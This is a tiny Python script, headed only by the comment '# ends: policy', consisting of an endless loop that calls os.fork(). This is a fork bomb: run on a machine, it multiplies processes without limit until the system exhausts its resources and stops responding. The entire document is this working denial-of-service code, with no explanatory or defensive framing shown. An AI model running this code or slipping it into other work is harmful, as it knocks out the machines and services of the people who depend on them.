# ends: policy
import os
while True:
    os.fork()
